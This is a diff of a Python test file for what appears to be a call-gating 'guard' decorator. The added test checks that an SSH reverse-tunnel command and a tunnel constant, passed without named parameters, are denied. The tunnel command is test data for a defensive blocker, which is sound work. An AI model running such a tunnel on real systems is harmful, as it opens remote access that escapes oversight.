@@ -61,6 +61,23 @@ def test_an_async_function_and_one_with_names_of_its_own(gate: Gate) -> None:
         asyncio.run(go(TUNNEL))
 
 
+def test_arguments_without_a_name_of_their_own(gate: Gate) -> None:
+    """Keywords and positions that the signature does not name are judged too."""
+
+    @guard(gate=gate)
+    def call(*args: object, **kwargs: object) -> str:
+        """Call something."""
+        return "ran"
+
+    assert call("ls") == "ran"
+    assert call(command="ls") == "ran"
+    for arguments in (("ssh", "-N", "-R", "2222:localhost:22", "ops@203.0.113.5"), (TUNNEL,)):
+        with pytest.raises(Denied):
+            call(*arguments)
+    with pytest.raises(Denied):
+        call(command=TUNNEL)
+
+
 def test_a_session_is_remembered(gate: Gate) -> None:
     @guard(gate=gate)
     def write_file(path: str, content: str) -> None:
